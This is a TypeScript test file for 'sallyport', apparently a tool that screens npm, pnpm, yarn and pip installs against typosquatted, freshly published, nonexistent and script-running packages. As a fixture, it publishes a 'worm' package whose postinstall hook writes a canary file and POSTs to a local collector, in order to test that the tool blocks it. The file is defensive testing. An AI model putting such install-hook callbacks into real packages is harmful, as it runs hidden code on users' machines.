import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { expect, test } from 'vitest';
import { startWeb } from './network.test-support.ts';
import { hasPip, PYTHON, startPythonIndex } from './python-index.test-support.ts';
import { type PrivateRegistry, publishPackage, startRegistry } from './registry.test-support.ts';
import { makeWorkspace, type Place, sallyport } from './sallyport.test-support.ts';
import { installTool } from './tools.test-support.ts';

const verdaccio = installTool('verdaccio');

interface Market {
  readonly place: Place;
  readonly registry: PrivateRegistry;
  /** What packages send home. */
  readonly collector: Awaited<ReturnType<typeof startWeb>>;
  readonly env: Readonly<Record<string, string>>;
}

/** A registry that demands a token, with an honest package and three others, and a user whose package managers use it. */
async function openMarket(program: string, tool: string | undefined): Promise<Market> {
  const place = makeWorkspace();
  const registry = await startRegistry(place, program);
  const collector = await startWeb();
  const worm = `node -e "require('fs').writeFileSync('${join(place.workspace, 'canary')}','');fetch('http://127.0.0.1:${collector.port}/',{method:'POST'})"`;
  await publishPackage(place, registry, { name: 'quite-an-honest-answer' });
  await publishPackage(place, registry, { name: 'expresss' });
  await publishPackage(place, registry, { name: 'quite-a-fresh-answer', isFresh: true });
  await publishPackage(place, registry, { name: 'quite-a-worm-inside', scripts: { postinstall: worm } });
  const path = [...(tool === undefined ? [] : [join(tool, 'node_modules/.bin')]), dirname(process.execPath), place.env['PATH']];
  const env = { ...place.env, PATH: path.join(':'), NPM_TOKEN: registry.token };
  const address = `//127.0.0.1:${registry.port}/`;
  writeFileSync(join(place.home, '.npmrc'), `registry=http:${address}\n${address}:_authToken=\${NPM_TOKEN}\nalways-auth=true\n`);
  const secret = ['secret', 'add', 'npm', '--from-env', 'NPM_TOKEN', '--host', `127.0.0.1:${registry.port}`];
  expect((await sallyport(place, [...secret, '--header', 'authorization', '--phase', 'setup'], { env })).code).toBe(0);
  return { place, registry, collector, env };
}

test.skipIf(verdaccio === undefined).each(['npm', 'pnpm', 'yarn', 'yarn-berry'] as const)(
  '%s installs the honest package, and neither the look-alike, nor the fresh one, nor the worm, nor one that is not there',
  async (name) => {
    const tool = name === 'npm' ? undefined : installTool(name);
    if (verdaccio === undefined || (name !== 'npm' && tool === undefined)) return;
    const { place, registry, collector, env } = await openMarket(verdaccio, tool);
    const policy = join(place.root, 'policy.yaml');
    if (name === 'yarn-berry') configureBerry(place, registry);
    const installs = { npm: 'npm install --no-audit --no-fund', pnpm: 'pnpm install', yarn: 'yarn install' };
    const install = installs[name === 'yarn-berry' ? 'yarn' : name];
    writeFileSync(policy, `version: 1\nphases: {setup: {run: ['${install}'], secrets: [npm]}}\n`);
    const flags = ['run', '--policy', policy, ...(tool === undefined ? [] : ['--read', tool])];
    const attempt = async (dependency: string): Promise<string> => {
      const manifest = { name: 'w', version: '1.0.0', private: true, dependencies: { [dependency]: '1.0.0' } };
      writeFileSync(join(place.workspace, 'package.json'), JSON.stringify(manifest));
      registry.takeDownloads();
      const { code, stderr } = await sallyport(place, [...flags, '--', 'true'], { env });
      expect(existsSync(join(place.workspace, 'canary'))).toBe(false);
      return `${code} ${registry.takeDownloads().length} ${existsSync(join(place.workspace, 'node_modules', dependency))} ${stderr}`;
    };

    expect(await attempt('expresss')).toMatch(/^126 0 false [\s\S]*could be taken for the popular express/);
    expect(await attempt('quite-a-fresh-answer')).toMatch(/^126 0 false [\s\S]*published 0 hours ago/);
    expect(await attempt('quite-a-worm-inside')).toMatch(/^126 0 false [\s\S]*runs a script of its own when it is installed/);
    expect(await attempt('quite-an-invented-name')).toMatch(/^126 0 false [\s\S]*does not exist/);
    expect(await attempt('quite-an-honest-answer')).toMatch(/^0 1 true /);
    expect(collector.seen).toEqual([]);
  },
);

/** Yarn 2 and later reads its own settings, not npm's. */
function configureBerry({ home, workspace }: Place, { port }: PrivateRegistry): void {
  const plain = { unsafeHttpWhitelist: ['127.0.0.1'], npmMinimalAgeGate: 0, enableTelemetry: false, nodeLinker: 'node-modules' };
  const own = { npmRegistryServer: `http://127.0.0.1:${port}`, npmAuthToken: '${NPM_TOKEN}', npmAlwaysAuth: true };
  writeFileSync(join(home, '.yarnrc.yml'), JSON.stringify({ ...plain, ...own }));
  writeFileSync(join(workspace, '.yarnrc.yml'), JSON.stringify({ ...plain, enableImmutableInstalls: false }));
}

test.skipIf(verdaccio === undefined).each(['npm', 'pnpm', 'yarn'] as const)(
  'sallyport %s judges what is named, installs what is honest, and runs all else without a network',
  async (name) => {
    const tool = name === 'npm' ? undefined : installTool(name);
    if (verdaccio === undefined || (name !== 'npm' && tool === undefined)) return;
    const { place, registry, collector, env } = await openMarket(verdaccio, tool);
    mkdirSync(join(place.home, '.config/sallyport'), { recursive: true });
    const read = tool === undefined ? '' : `files: {read: [${tool}]}\n`;
    writeFileSync(join(place.home, '.config/sallyport/policy.yaml'), `version: 1\n${read}phases: {setup: {secrets: [npm]}}\n`);
    const look = `require("net").connect(${registry.port}, "127.0.0.1").on("error", (e) => { console.log(e.code); process.exit(7); })`;
    writeFileSync(join(place.workspace, 'look.js'), look);
    const manifest = { name: 'w', version: '1.0.0', private: true, scripts: { look: 'node look.js' } };
    writeFileSync(join(place.workspace, 'package.json'), JSON.stringify(manifest));
    const add = name === 'npm' ? ['install', '--no-audit', '--no-fund', '--save-exact'] : ['add'];
    const attempt = async (dependency: string): Promise<string> => {
      registry.takeDownloads();
      const { code, stderr } = await sallyport(place, [name, ...add, `${dependency}@1.0.0`], { env });
      return `${code} ${registry.takeDownloads().length} ${existsSync(join(place.workspace, 'node_modules', dependency))} ${stderr}`;
    };

    expect(await attempt('expresss')).toMatch(/^126 0 false [\s\S]*could be taken for the popular express/);
    expect(await attempt('quite-a-fresh-answer')).toMatch(/^126 0 false [\s\S]*published 0 hours ago/);
    expect(await attempt('quite-a-worm-inside')).toMatch(/^126 0 false [\s\S]*runs a script of its own when it is installed/);
    expect(await attempt('quite-an-invented-name')).toMatch(/^126 0 false [\s\S]*does not exist/);
    expect(await attempt('quite-an-honest-answer')).toMatch(/^0 1 true /);
    // A person has looked at the fresh one.
    const grant = ['packages', 'grant', 'pkg:npm/quite-a-fresh-answer@1.0.0'];
    expect((await sallyport(place, grant, { env })).code).toBe(0);
    // Yarn fetches the other one again: caches are private to a run.
    expect(await attempt('quite-a-fresh-answer')).toMatch(/^0 [12] true /);
    const elsewhere = await sallyport(place, [name, ...add, 'lodash', '--registry', 'http://192.0.2.7/'], { env });
    expect(`${elsewhere.code} ${elsewhere.stderr}`).toMatch(/^126 [\s\S]*192\.0\.2\.7/);

    const script = await sallyport(place, [name, 'run', 'look'], { env });
    expect(script.stdout).toContain('ECONNREFUSED');
    expect(script.code).toBe(7);
    expect(existsSync(join(place.workspace, 'canary'))).toBe(false);
    expect(collector.seen).toEqual([]);
  },
);

test.skipIf(!hasPip)(
  'pip installs the honest package from a local index, and neither the look-alike, nor the fresh one, nor the worm',
  async () => {
    const place = makeWorkspace();
    const index = await startPythonIndex(place);
    const { canary, downloads } = index;
    const env = { ...place.env, PIP_INDEX_URL: `http://127.0.0.1:${index.port}/simple` };
    const policy = join(place.root, 'policy.yaml');
    const install = `${PYTHON} -m pip install --no-input --disable-pip-version-check --target vendor -r requirements.txt`;
    writeFileSync(policy, `version: 1\nphases: {setup: {run: ['${install}']}}\n`);
    const attempt = async (name: string): Promise<string> => {
      writeFileSync(join(place.workspace, 'requirements.txt'), `${name}==1.0\n`);
      downloads.length = 0;
      const { code, stderr } = await sallyport(place, ['run', '--policy', policy, '--', 'true'], { env });
      expect(existsSync(canary)).toBe(false);
      return `${code} ${downloads.length} ${stderr}`;
    };
    expect(await attempt('reqeusts')).toMatch(/^126 0 [\s\S]*could be taken for the popular requests/);
    expect(await attempt('quite-a-fresh-answer')).toMatch(/^126 0 [\s\S]*published 0 hours ago/);
    expect(await attempt('quite-a-worm-inside')).toMatch(/^126 0 [\s\S]*runs a script of its own/);
    expect(await attempt('quite-an-invented-name')).toMatch(/^126 0 [\s\S]*does not exist/);
    // Once when it is worked out what would be installed, once when it is.
    expect(await attempt('quite-an-honest-answer')).toMatch(/^0 2 /);
    expect(existsSync(join(place.workspace, 'vendor/quite_an_honest_answer.py'))).toBe(true);
  },
);

test.skipIf(!hasPip).each(['an address', '.netrc'] as const)(
  'the password of an index, from %s, is used to ask about packages, and shown to nobody',
  async (where) => {
    const place = makeWorkspace();
    // sallyport-ignore generic-assignment: made up, it opens nothing
    const password = 'an-index-password-of-this-test-only-9876';
    const index = await startPythonIndex(place, `Basic ${Buffer.from(`ci:${password}`).toString('base64')}`);
    const isAddress = where === 'an address';
    const url = `http://${isAddress ? `ci:${password}@` : ''}127.0.0.1:${index.port}/simple`;
    if (!isAddress)
      writeFileSync(join(place.home, '.netrc'), `machine 127.0.0.1 login ci password ${password}\n`, { mode: 0o600 });
    const env = { ...place.env, PIP_INDEX_URL: url };
    const said: string[] = [];
    const attempt = async (name: string): Promise<string> => {
      const { code, stdout, stderr } = await sallyport(place, ['pip', 'install', '--retries=0', '--no-input', `${name}==1.0`], {
        env,
      });
      said.push(stdout, stderr);
      return `${code} ${stderr}`;
    };
    expect(await attempt('quite-a-fresh-answer')).toMatch(/^126 [\s\S]*published 0 hours ago/);
    expect(await attempt('quite-an-invented-name')).toMatch(/^126 [\s\S]*does not exist/);
    // The cage has no password, so pip itself gets nothing: that takes a secret of the setup phase.
    expect(await attempt('quite-an-honest-answer')).not.toMatch(/^(?:0|126) /);
    expect(index.downloads).toEqual([]);
    said.push((await sallyport(place, ['trail', 'export', '--format', 'ndjson'], { env })).stdout);
    expect(said.join('')).not.toContain(password);
  },
);
